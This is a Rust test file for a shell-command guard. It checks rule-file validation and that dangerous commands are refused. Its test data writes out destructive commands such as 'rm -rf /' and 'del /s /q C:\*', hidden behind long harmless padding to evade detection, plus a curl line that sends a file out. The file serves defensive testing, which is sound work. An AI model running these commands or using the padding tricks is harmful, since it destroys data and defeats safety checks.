//! The built-in rules against their own examples, places that depend on the context, and files that are refused.

use serde::Deserialize;

use super::*;
use crate::decision::Severity;
use crate::paths::{Os, Place};
use crate::shell::analyse;
use crate::shell::limits::Limits;

#[test]
fn every_built_in_rule_holds_for_its_examples_and_for_no_others() {
    let check = CommandRules::builtin().self_check(|_| true);
    let problems: Vec<String> = check.problems.iter().map(ToString::to_string).collect();
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(check.rules > 60 && check.commands > 350, "{check:?}");
}

/// Commands in a context, from a file.
#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Table {
    case: Vec<Case>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Case {
    command: String,
    #[serde(default)]
    cwd: String,
    #[serde(default)]
    home: String,
    #[serde(default)]
    windows: bool,
    #[serde(default)]
    roots: Vec<String>,
    /// Ids of the rules that block, sorted.
    blocks: Vec<String>,
}

#[test]
fn the_context_decides_what_is_refused() {
    let tables = [
        include_str!("../../tests/cases/commands/guard.toml"),
        include_str!("../../tests/cases/commands/lists_and_names.toml"),
    ];
    let mut wrong = String::new();
    for case in tables.into_iter().flat_map(|table| {
        let table: Table = toml::from_str(table).expect("a table");
        assert!(table.case.len() > 30, "the table was not read");
        table.case
    }) {
        let os = if case.windows { Os::Windows } else { Os::Linux };
        let place = Place { cwd: &case.cwd, home: &case.home, os };
        let analysis = analyse(&case.command, place, &Limits::default());
        let context = GuardContext { place, workspace_roots: &case.roots };
        let mut found: Vec<String> = CommandRules::builtin()
            .judge(&analysis, &context)
            .iter()
            .filter(|hit| hit.rule.severity >= Severity::High)
            .map(|hit| hit.rule.id.to_string())
            .collect();
        found.sort();
        found.dedup();
        if found != case.blocks {
            wrong.push_str(&format!(
                "{:?} in {:?}: {found:?} instead of {:?}\n",
                case.command, case.cwd, case.blocks
            ));
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

/// A rule that is fine, for files of which something else is wrong.
const GOOD: &str = r#"
[[rule]]
id = "command.x"
category = "command.test"
severity = "high"
effects = ["delete_path"]
description = "d"
recommendation = "r"
examples = ["rm a"]
negative_examples = ["ls"]
"#;

/// What is put into the good file in place of what, and what is said about it.
const BROKEN: &[(&str, &str, &str)] = &[
    ("severity = \"high\"", "severity = \"bad\"", "f.toml:5: unknown variant `bad`"),
    ("severity = \"high\"", "severity = \"high\"\ncolour = 1", "unknown field `colour`"),
    (
        "id = \"command.x\"",
        "id = \"Command X\"",
        "f.toml:2: `Command X`: id \"Command X\" must be lower-case",
    ),
    ("category = \"command.test\"", "category = \"test\"", "category \"test\" must be `command.` and a name"),
    ("effects = [\"delete_path\"]", "effects = []", "effects is empty"),
    ("effects = [\"delete_path\"]", "effects = [\"explode\"]", "effects: \"explode\" is no kind of effect"),
    ("examples = [\"rm a\"]", "examples = []", "examples is empty"),
    ("description = \"d\"", "description = \" \"", "description is empty"),
    ("effects", "classes = [\"nowhere\"]\neffects", "classes: there is no class \"nowhere\""),
    ("effects", "target_kinds = [\"soul\"]\neffects", "target_kinds: \"soul\" is unknown"),
    ("effects", "detail_pattern = \"(\"\neffects", "detail_pattern: "),
    ("effects", "confidence = 2.0\neffects", "confidence 2 must be above 0.0"),
    ("effects", "with = [\"nothing\"]\neffects", "with: \"nothing\" is no kind of effect"),
];

/// Classes that are refused, and what is said about them.
const BROKEN_CLASSES: &[(&str, &str)] = &[
    ("name = \"a\"", "the class is empty"),
    ("name = \"a\"\nkinds = [\"heaven\"]", "kinds: \"heaven\" is no kind of place"),
    ("name = \"a\"\npaths = [\"etc\"]", "path \"etc\" must begin with"),
    ("name = \"a\"\npaths = [\"/etc/\"]", "and not end with `/`"),
    ("name = \"a\"\nworkspace = \"near\"", "workspace: \"near\" must be `root` or `inside`"),
    ("name = \"a\"\npaths = [\"/a\"]\n[[class]]\nname = \"a\"\npaths = [\"/b\"]", "the name is taken"),
];

fn problems(text: &str) -> String {
    CommandRules::load(&[CommandRuleSource { file: "f.toml", text }])
        .expect_err("something is wrong with it")
        .to_string()
}

#[test]
fn what_is_wrong_with_a_file_is_said_with_its_line() {
    assert!(CommandRules::load(&[CommandRuleSource { file: "f.toml", text: GOOD }]).is_ok());
    for name in ["rule", "class"] {
        let found = problems(&format!("{name} = ['x']"));
        assert!(found.contains(&format!("expected a table `[[{name}]]`")), "{found}");
    }
    for (part, broken, wanted) in BROKEN {
        assert!(GOOD.contains(part), "{part}");
        let said = problems(&GOOD.replacen(part, broken, 1));
        assert!(said.contains(wanted) && said.contains("f.toml:"), "{broken}: {said}");
    }
    for (class, wanted) in BROKEN_CLASSES {
        let said = problems(&format!("[[class]]\n{class}\n"));
        assert!(said.contains(wanted) && said.contains("f.toml:"), "{class}: {said}");
    }
    let twice = format!("{GOOD}{GOOD}");
    assert!(problems(&twice).contains("the id is taken by f.toml:2"), "{}", problems(&twice));
}

#[test]
fn a_rule_may_ask_for_another_effect_of_the_same_command() {
    let text = GOOD.replace("effects", "with = [\"send_data\"]\neffects");
    let rules =
        CommandRules::load(&[CommandRuleSource { file: "f.toml", text: &text }]).expect("a good file");
    let hits = |command: &str| {
        let analysis = analyse(command, Place::default(), &Limits::default());
        rules.judge(&analysis, &GuardContext::default()).len()
    };
    assert_eq!(hits("rm a"), 0);
    assert_eq!(hits("curl -d @a https://example.com; rm a"), 1);
}

/// What stands before, what is repeated (`#` is its number), how often, and what stands behind.
const PADDED: &[(&str, &str, usize, &str)] = &[
    ("printf '", "a#\\n", 60, "/\\n' | xargs -I{} rm -rf {}"),
    ("parallel rm -rf ::: ", "a# ", 60, "/"),
    ("for d in ", "a# ", 60, "/; do rm -rf $d; done"),
    ("printf '", "a#\\n", 60, "/\\n' | while read d; do rm -rf $d; done"),
    ("printf '", "# x\\n", 60, "* * * * * rm -rf /\\n' | crontab -"),
    ("expect -c '", "send a;", 100, "spawn rm -rf /'"),
    ("make -f - <<'E'\n", "\ttrue\n", 100, "\trm -rf /\nE"),
    ("cmd /c '", "dir & ", 100, "del /s /q C:\\*'"),
    ("a=(", "a# ", 60, "'/'); for x in \"${a[@]}\"; do rm -rf $x; done"),
    ("sed '", "s/a/b/;", 300, "1e rm -rf /' x"),
    ("awk 'BEGIN{", "v#=\"x\";", 100, "c=\"rm -rf /\"; system(c)}'"),
    ("python3 -c 'import os\nfor d in [", "\"a#\",", 60, "\"/\"]: os.system(\"rm -rf \"+d)'"),
    ("powershell -c '", "ls;", 1100, "rm -r C:/'"),
    ("ed x <<'E'\n", "p\n", 1100, "!rm -rf /\nE"),
    ("sftp h <<'E'\n", "pwd\n", 300, "!rm -rf /\nE"),
    ("echo ", "a# ", 1100, "/ | xargs rm -rf"),
    ("python3 -c 'import os\n", "v#=\"x\"\n", 1500, "c=\"rm -rf /\"; os.system(c)'"),
    ("", "echo a > f#;", 300, "echo 'rm -rf /' > g; sh g"),
];

#[test]
fn nothing_hides_behind_a_long_harmless_list() {
    for (head, unit, times, tail) in PADDED {
        let padding: String = (0..*times).map(|at| unit.replace('#', &at.to_string())).collect();
        let command = format!("{head}{padding}{tail}");
        let place = Place { cwd: "/home/dev/app", home: "/home/dev", os: Os::Linux };
        let analysis = analyse(&command, place, &Limits::default());
        let context = GuardContext { place, ..GuardContext::default() };
        let rules = CommandRules::builtin();
        let is_refused =
            rules.judge(&analysis, &context).iter().any(|hit| hit.rule.severity >= Severity::High);
        assert!(is_refused, "{head}{unit} x {times} {tail}");
    }
}
